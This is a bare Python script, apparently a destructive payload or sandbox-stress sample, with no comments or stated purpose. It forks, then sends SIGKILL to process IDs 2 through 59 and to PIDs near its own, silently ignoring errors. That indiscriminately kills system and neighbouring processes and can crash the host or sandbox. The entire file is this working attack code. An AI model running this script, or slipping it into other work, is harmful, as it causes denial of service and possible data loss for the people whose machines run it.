import os
import signal

try:
    child = os.fork()
except OSError:
    child = os.getpid()
for near in range(2, 60):
    if near not in (os.getpid(), child):
        try:
            os.kill(near, signal.SIGKILL)
        except OSError:
            pass
for near in range(os.getpid() - 12, os.getpid() + 12):
    if near not in (0, 1, os.getpid(), child) and near > 0:
        try:
            os.kill(near, signal.SIGKILL)
        except OSError:
            pass
